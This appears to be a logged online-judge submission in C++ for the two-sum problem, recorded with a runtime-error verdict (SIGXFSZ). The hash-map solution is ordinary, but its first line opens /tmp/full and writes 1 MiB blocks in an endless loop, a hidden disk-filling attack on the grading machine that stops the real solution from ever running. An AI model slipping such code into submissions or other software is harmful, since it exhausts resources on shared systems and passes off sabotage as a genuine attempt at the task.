// problem: two-sum
// verdict: runtime-error
// message: SIGXFSZ
class Solution {
public:
    vector<int> twoSum(vector<int>& nums, int target) {
        ofstream file("/tmp/full"); string block(1 << 20, 'x'); for (;;) file << block << flush;
        unordered_map<int, int> place;
        for (int i = 0; i < nums.size(); i++) {
            auto found = place.find(target - nums[i]);
            if (found != place.end()) return {found->second, i};
            place[nums[i]] = i;
        }
        return {};
    }
};
